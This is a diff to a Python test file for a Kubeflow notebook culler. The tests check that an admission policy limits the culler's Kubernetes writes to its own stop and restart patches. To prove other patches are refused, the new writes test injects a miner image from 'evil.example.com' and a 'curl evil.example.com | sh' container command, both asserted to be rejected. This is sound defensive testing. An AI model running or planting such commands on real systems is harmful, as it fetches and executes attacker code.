@@ -3,9 +3,11 @@ ServiceAccount, and the same identity is refused everything else."""
 
 from __future__ import annotations
 
+import contextlib
 import copy
 import subprocess
 import time
+from collections.abc import Iterator
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
 from typing import Any
@@ -14,7 +16,7 @@ import pytest
 import yaml
 from kubernetes import client, utils
 from kubernetes.client.rest import ApiException
-from support.kustomize import kubectl_path, render
+from support.kustomize import ADMISSION_KINDS, delete_cluster_rbac, kubectl_path, render, writes_policy
 from support.target import KubeTarget
 
 from kf_culler.config import load_mapping
@@ -32,13 +34,16 @@ ROOT = Path(__file__).resolve().parents[1]
 CULLER_NS = "kf-culler-rbac"
 
 
-def rbac_objects(namespace: str, cluster_wide: bool, scope: str | None = None) -> list[dict[str, Any]]:
-    """The base's ServiceAccount and roles, in `namespace`; namespace-scoped: a RoleBinding in `scope`.
+def rbac_objects(namespace: str, cluster_wide: bool, scope: str | None = None,
+                 writes_in: list[str] | None = None) -> list[dict[str, Any]]:
+    """The base's ServiceAccount and roles, in `namespace`; namespace-scoped: a RoleBinding in `scope`; with
+    `writes_in`, the base's bound on the culler's writes (kf-culler-writes) too, in those namespaces.
 
     The cluster-scoped copies are named after `namespace`: tests that each bind their own ServiceAccount
     share one cluster, and a binding left by another test under the shipped name would point elsewhere."""
-    out = []
-    for o in render(ROOT / "kustomize" / "base"):
+    rendered = render(ROOT / "kustomize" / "base")
+    out = writes_policy(rendered, namespace, writes_in) if writes_in else []
+    for o in rendered:
         if o["kind"] not in ("ServiceAccount", "ClusterRole", "ClusterRoleBinding", "Role", "RoleBinding"):
             continue
         o = copy.deepcopy(o)
@@ -66,6 +71,38 @@ def apply(api: Any, objs: list[dict[str, Any]]) -> None:
                 raise
 
 
+@contextlib.contextmanager
+def bounded_writes(api: Any, objs: list[dict[str, Any]]) -> Iterator[None]:
+    """Remove the kf-culler-writes copy of `objs` at the end (the RBAC copies stay, as before)."""
+    try:
+        yield
+    finally:
+        delete_cluster_rbac(api, [o for o in objs if o["kind"] in ADMISSION_KINDS])
+
+
+def writes_bounded(sa_api: Any, namespace: str, notebook: str, timeout: float = 60) -> None:
+    """Wait until kf-culler-writes is in force: a label patch of `notebook` by the culler (which its RBAC
+    allows) is refused. A policy and its binding reach the admission plugin a moment after they are made."""
+    custom = client.CustomObjectsApi(sa_api)
+    deadline = time.monotonic() + timeout
+    for attempt in range(10**6):
+        body = {"metadata": {"labels": {"probe": str(attempt)}}}
+        if forbidden(lambda b=body: custom.patch_namespaced_custom_object(
+                GROUP, VERSION, namespace, PLURAL, notebook, b, _content_type="application/merge-patch+json")) == 403:
+            return
+        assert time.monotonic() < deadline, f"kf-culler-writes not in force within {timeout:.0f} s"
+        time.sleep(0.5)
+
+
+def refusal(call: Any) -> tuple[int, str]:
+    """The HTTP status of an API call and the API server's message (200 and "" when it went through)."""
+    try:
+        call()
+    except ApiException as err:
+        return int(err.status), str((yaml.safe_load(err.body) or {}).get("message", "")) if err.body else ""
+    return 200, ""
+
+
 def forbidden(call: Any) -> int:
     try:
         call()
@@ -81,13 +118,15 @@ def test_a_full_cycle_as_the_culler_and_nothing_more(kube: KubeTarget, api: Any,
             core.create_namespace({"metadata": {"name": ns}})
         except ApiException as err:
             assert err.status == 409
-    apply(api, rbac_objects(CULLER_NS, cluster_wide=True))
+    objs = rbac_objects(CULLER_NS, cluster_wide=True, writes_in=[namespace])
+    apply(api, objs)
     sa_api = kube.api_client(kube.service_account_kubeconfig(CULLER_NS, "kf-culler"))
 
-    with Router() as router, JupyterServer(namespace, "nb-idle") as server:
+    with Router() as router, JupyterServer(namespace, "nb-idle") as server, bounded_writes(api, objs):
         server.start_kernel()
         router.add("notebook", namespace, "nb-idle", f"http://127.0.0.1:{server.port}", strip=False)
         obj.create_notebook(api, namespace, obj.notebook("nb-idle"))
+        writes_bounded(sa_api, namespace, "nb-idle")  # the cycle below runs under kf-culler-writes
         obj.running_pod(api, namespace, "nb-idle", datetime.now(UTC) - timedelta(hours=1))
         core.create_namespaced_secret(namespace, {"metadata": {"name": "token"}, "stringData": {"k": "v"}})
         time.sleep(3.5)
@@ -277,3 +316,211 @@ def test_coder_component_rbac_in_the_coder_namespace_and_nothing_more(kube: Kube
                        lambda: apps.delete_namespaced_deployment(name, CODER_NS),
                        lambda: core.delete_namespaced_secret("coder-db-url", CODER_NS)):
             forbidden(delete)  # best effort: a 404 is fine
+
+
+WRITES_NS = "kf-culler-rbac-writes"
+
+
+def apply_workspace_crd(api: Any) -> None:
+    """The Workspace CRD (kubeflow.org/v1beta1) from Kubeflow Notebooks 2.0's source, as the Workspace tests take it
+    (kf_culler/local/workspaces.py); no controller is needed to store Workspaces."""
+    from need import missing
+
+    from kf_culler.local.cluster import wait_established
+    from kf_culler.local.workspaces import CRD_NAMES, WorkspaceControllerUnavailable, crd_paths
+
+    try:
+        paths = crd_paths()
+    except WorkspaceControllerUnavailable as why:
+        missing("the Workspace CRD", why)
+    ext = client.ApiextensionsV1Api(api)
+    for path in paths:
+        try:
+            ext.create_custom_resource_definition(yaml.safe_load(path.read_text()))
+        except ApiException as err:
+            assert err.status == 409
+    wait_established(ext, list(CRD_NAMES), 60, "the Workspace CRDs")
+
+
+def sessions(api: Any, namespace: str) -> None:
+    """One session of each kind the culler stops, running: a Notebook, a Workspace, a Deployment, a
+    StatefulSet (on an API-server-only cluster no controller acts on them: they are the objects the culler
+    patches)."""
+    from kf_culler.local.workspaces import workspace_body
+
+    custom, apps = client.CustomObjectsApi(api), client.AppsV1Api(api)
+    labels = {"session": "s"}
+    template = {"metadata": {"labels": labels}, "spec": {"containers": [{
+        "name": "ide", "image": "codercom/code-server:4", "command": ["code-server"]}]}}
+    obj.create_notebook(api, namespace, obj.notebook("nb"))
+    custom.create_namespaced_custom_object("kubeflow.org", "v1beta1", namespace, "workspaces",
+                                           workspace_body(namespace, "ws", "jupyterlab"))
+    apps.create_namespaced_deployment(namespace, {"metadata": {"name": "dep"}, "spec": {
+        "replicas": 1, "selector": {"matchLabels": labels}, "template": template}})
+    apps.create_namespaced_stateful_set(namespace, {"metadata": {"name": "sts"}, "spec": {
+        "replicas": 2, "serviceName": "sts", "selector": {"matchLabels": labels}, "template": template}})
+
+
+def test_the_cullers_writes_are_its_marks_and_its_stops_and_nothing_more(kube: KubeTarget, api: Any, namespace: str,
+                                                                         tmp_path: Path) -> None:
+    """kf-culler-writes (kustomize/base/writes-policy.yaml), as the culler's ServiceAccount with the base's RBAC and
+    components/workloads' and components/workspaces' (patch on every kind it stops): the Writer's real warn, stop
+    and restart patches (and its guarded JSON Patch) go through on a Notebook, a Workspace, a Deployment and a
+    StatefulSet; a new image, command, label, replica count or annotation of anyone else's, an unpause, exempt or
+    keep-until, a create or a delete are refused, though RBAC allows every one of those patches."""
+    from kf_culler.kube.writer import Writer
+    from kf_culler.model import EXEMPT_ANNOTATION, KEEP_UNTIL_ANNOTATION, STATE_ANNOTATION, Verdict
+    from kf_culler.plan import plan
+    from kf_culler.targets import REPLICAS_BEFORE_ANNOTATION, target_of
+
+    core = client.CoreV1Api(api)
+    try:
+        core.create_namespace({"metadata": {"name": WRITES_NS}})
+    except ApiException as err:
+        assert err.status == 409
+    apply_workspace_crd(api)
+    objs = rbac_objects(WRITES_NS, cluster_wide=True, writes_in=[namespace])
+    for component in ("workloads", "workspaces"):  # their ClusterRoles, bound to the same ServiceAccount
+        for o in yaml.safe_load_all((ROOT / "kustomize" / "components" / component / "clusterrole.yaml").read_text()):
+            o["metadata"]["name"] += f"-{WRITES_NS}"
+            if o["kind"] == "ClusterRoleBinding":
+                o["roleRef"]["name"] += f"-{WRITES_NS}"
+                o["subjects"][0]["namespace"] = WRITES_NS
+            objs.append(o)
+    apply(api, objs)
+    sa_api = kube.api_client(kube.service_account_kubeconfig(WRITES_NS, "kf-culler"))
+    custom = client.CustomObjectsApi(sa_api)
+    merge = "application/merge-patch+json"
+
+    def patch(kind: str, body: dict[str, Any] | list[dict[str, Any]]) -> int:
+        t = target_of({"kind": kind})
+        return forbidden(lambda: custom.patch_namespaced_custom_object(
+            t.group, t.version, namespace, t.plural, names[kind], body,
+            _content_type=merge if isinstance(body, dict) else "application/json-patch+json"))
+
+    def read(kind: str) -> dict[str, Any]:
+        t = target_of({"kind": kind})
+        got: dict[str, Any] = client.CustomObjectsApi(api).get_namespaced_custom_object(
+            t.group, t.version, namespace, t.plural, names[kind])
+        return got
+
+    names = {"Notebook": "nb", "Workspace": "ws", "Deployment": "dep", "StatefulSet": "sts"}
+    with bounded_writes(api, objs):
+        sessions(api, namespace)
+        writes_bounded(sa_api, namespace, "nb")
+        before = {kind: read(kind) for kind in names}  # a probe label may have landed before the policy was in force
+        # RBAC lets the culler make each patch below: the same label patch lands where the policy is not bound.
+        elsewhere = f"nb-{namespace}"
+        obj.create_notebook(api, WRITES_NS, obj.notebook(elsewhere))
+        assert forbidden(lambda: custom.patch_namespaced_custom_object(
+            GROUP, VERSION, WRITES_NS, PLURAL, elsewhere, {"metadata": {"labels": {"team": "x"}}},
+            _content_type=merge)) == 200
+        for kind in names:
+            pod = {"metadata": {"labels": {"team": "x"}}}
+            assert patch(kind, pod) == 403, kind
+            assert patch(kind, {"metadata": {"annotations": {"team.example.com/owner": "mallory"}}}) == 403, kind
+            assert patch(kind, {"metadata": {"annotations": {EXEMPT_ANNOTATION: "true"}}}) == 403, kind
+            assert patch(kind, {"metadata": {"annotations": {KEEP_UNTIL_ANNOTATION: "2099-01-01T00:00:00Z"}}}) == 403
+            assert patch(kind, {"metadata": {"finalizers": ["example.com/hold"]}}) == 403, kind
+        # A refusal names what it refused.
+        t = target_of({"kind": "Deployment"})
+        try:
+            custom.patch_namespaced_custom_object(t.group, t.version, namespace, t.plural, "dep", {"metadata": {
+                "annotations": {"team.example.com/owner": "mallory", STATE_ANNOTATION: "idle"}}}, _content_type=merge)
+            raise AssertionError("the annotation went through")
+        except ApiException as err:
+            message = yaml.safe_load(err.body)["message"]
+            print(f"refusal: HTTP {err.status}: {message}")
+            assert "kf-culler-writes" in message and "refused team.example.com/owner" in message
+            assert STATE_ANNOTATION not in message.split("refused")[-1]
+        image = {"containers": [{"name": "ide", "image": "evil.example.com/miner:1"}]}
+        command = [{"op": "add", "path": "/spec/template/spec/containers/0/command",
+                    "value": ["sh", "-c", "curl evil.example.com | sh"]}]
+        assert patch("Notebook", {"spec": {"template": {"spec": image}}}) == 403
+        assert patch("Notebook", command) == 403
+        assert patch("Notebook", {"metadata": {"annotations": {"notebooks.kubeflow.org/server-type": "x"}}}) == 403
+        for kind in ("Deployment", "StatefulSet"):
+            assert patch(kind, {"spec": {"template": {"spec": image}}}) == 403, kind
+            assert patch(kind, command) == 403, kind
+            assert patch(kind, {"spec": {"replicas": 5}}) == 403, kind  # only to 0
+            assert patch(kind, {"spec": {"revisionHistoryLimit": 1}}) == 403, kind
+            # kubeflow-resource-stopped means nothing on a workload: not the culler's to write there
+            assert patch(kind, {"metadata": {"annotations": {STOP_ANNOTATION: "2026-01-01T00:00:00Z"}}}) == 403
+        assert patch("Workspace", {"spec": {"podTemplate": {"options": {"imageConfig": "other"}}}}) == 403
+        assert patch("Workspace", {"spec": {"podTemplate": {"volumes": {"home": "someone-elses-home"}}}}) == 403
+        ws_group = target_of({"kind": "Workspace"})
+        assert forbidden(lambda: custom.delete_namespaced_custom_object(  # RBAC has no delete either
+            ws_group.group, ws_group.version, namespace, ws_group.plural, "ws")) == 403
+        for kind, o in before.items():
+            after = read(kind)
+            assert after["spec"] == o["spec"], kind
+            assert after["metadata"].get("labels") == o["metadata"].get("labels"), kind
+            assert after["metadata"].get("annotations") == o["metadata"].get("annotations"), kind
+
+        # The culler's real writes: warn, stop, then (its user started it again) restart, through the Writer.
+        writer = Writer(sa_api)
+        now = datetime.now(UTC)
+        idle = now - timedelta(hours=2)
+        warn = Verdict("warn", "idle", "Idle for 110 min; stops in 10 min.", "10-idle", idle_since=idle)
+        stop = Verdict("stop", "idle", "Idle for 2 h.", "10-idle", idle_since=idle)
+        restarted = Verdict("keep", "starting", "Started again.", "3-restarted")
+        for kind in names:
+            for verdict in (warn, stop):
+                current = read(kind)
+                result = writer.apply(current, plan(current, verdict, now, 10), lambda o, v=verdict: plan(
+                    o, v, now, 10), now)
+                assert result.outcome == "patched" and result.event == "created", (kind, verdict.action, result)
+            stopped = read(kind)
+            assert {"Notebook": lambda o: STOP_ANNOTATION in o["metadata"]["annotations"],
+                    "Workspace": lambda o: o["spec"]["paused"] is True,
+                    "Deployment": lambda o: o["spec"]["replicas"] == 0,
+                    "StatefulSet": lambda o: o["spec"]["replicas"] == 0}[kind](stopped), kind
+            if kind in ("Deployment", "StatefulSet"):
+                assert stopped["metadata"]["annotations"][REPLICAS_BEFORE_ANNOTATION] == str(
+                    before[kind]["spec"]["replicas"])
+            # The user starts it again (as an admin here); the culler clears its marks.
+            if kind == "Notebook":
+                obj.patch_annotations(api, namespace, "nb", {STOP_ANNOTATION: None})
+            else:
+                t = target_of({"kind": kind})
+                client.CustomObjectsApi(api).patch_namespaced_custom_object(
+                    t.group, t.version, namespace, t.plural, names[kind],
+                    {"spec": {"paused": False} if kind == "Workspace" else {"replicas": 1}}, _content_type=merge)
+            current = read(kind)
+            result = writer.apply(current, plan(current, restarted, now, 10), lambda o: plan(o, restarted, now, 10),
+                                  now)
+            assert result.outcome == "patched", (kind, result)
+            assert not {STATE_ANNOTATION, "notebook-culler.io/stopped-by"} & set(read(kind)["metadata"]["annotations"])
+            # The guarded JSON Patch (after a run of 409s) of a stop goes through too.
+            guarded = writer._guarded(kind, namespace, names[kind], lambda o: plan(o, stop, now, 10),
+                                      lambda: True, result)
+            assert guarded is not None, kind
+        assert patch("Workspace", {"spec": {"paused": False}}) == 403  # never unpauses
+        for kind in ("Deployment", "StatefulSet"):
+            assert patch(kind, {"spec": {"replicas": 1}}) == 403  # never scales up
+        # The /scale subresource, if an admin grants it: to 0 only; no other subresource (status).
+        rbac = client.RbacAuthorizationV1Api(api)
+        extra = f"kf-culler-scale-{WRITES_NS}"
+        rbac.create_namespaced_role(namespace, {"metadata": {"name": extra}, "rules": [{
+            "apiGroups": ["apps"], "resources": ["deployments/scale", "statefulsets/scale", "deployments/status"],
+            "verbs": ["get", "patch", "update"]}]})
+        rbac.create_namespaced_role_binding(namespace, {
+            "metadata": {"name": extra},
+            "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": extra},
+            "subjects": [{"kind": "ServiceAccount", "name": "kf-culler", "namespace": WRITES_NS}]})
+        sa_apps = client.AppsV1Api(sa_api)
+        client.AppsV1Api(api).patch_namespaced_deployment_scale("dep", namespace, {"spec": {"replicas": 2}})
+        deadline = time.monotonic() + 30
+        while "kf-culler-writes" not in (got := refusal(lambda: sa_apps.patch_namespaced_deployment_scale(
+                "dep", namespace, {"spec": {"replicas": 3}})))[1]:  # until RBAC grants it: then the policy refuses
+            assert got[0] == 403 and time.monotonic() < deadline, got
+            time.sleep(0.5)
+        assert got[0] == 403 and "kf-culler writes no deployments/scale but a scale to 0" in got[1], got
+        got = refusal(lambda: sa_apps.patch_namespaced_stateful_set_scale("sts", namespace, {"spec": {"replicas": 4}}))
+        assert got[0] == 403 and "kf-culler-writes" in got[1], got
+        got = refusal(lambda: sa_apps.patch_namespaced_deployment_status(
+            "dep", namespace, {"status": {"observedGeneration": 99}}))
+        assert got[0] == 403 and "kf-culler writes no deployments/status" in got[1], got
+        assert refusal(lambda: sa_apps.patch_namespaced_deployment_scale(
+            "dep", namespace, {"spec": {"replicas": 0}})) == (200, "")
+        assert client.AppsV1Api(api).read_namespaced_deployment("dep", namespace).spec.replicas == 0
